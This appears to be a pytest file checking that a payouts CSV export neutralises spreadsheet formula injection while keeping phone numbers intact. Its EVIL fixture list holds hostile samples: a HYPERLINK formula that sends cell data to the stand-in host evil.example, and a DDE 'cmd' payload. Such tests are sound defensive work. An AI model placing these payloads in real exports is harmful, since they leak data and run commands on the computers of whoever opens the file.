"""CSV exports opened as spreadsheets: a cell starting with =, +, -, @ runs nothing (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from core.payouts import as_csv
from core.spreadsheet import safe_cell

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"жми")', "+1+cmd|' /C calc'!A0", "-2+A3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", EVIL)
def test_a_formula_is_opened_as_text(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Анна", "+79161234567", "+7 (916) 123-45-67", "-5", "900.00", "", "a=b",
                                  "2026-11-23"])
def test_plain_values_and_phones_stay_as_they_are(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_the_payouts_list_neutralises_a_persons_name_and_keeps_the_phone() -> None:
    row = {"payout_id": "1", "person_id": "7", "name": EVIL[0], "phone": "+79161234567", "amount_rub": "900.00",
           "requested_at": "2026-11-23T09:00:00+00:00"}
    (read,) = csv.DictReader(io.StringIO(as_csv([row])))
    assert read["name"] == "'" + EVIL[0] and read["phone"] == "+79161234567" and read["amount_rub"] == "900.00"
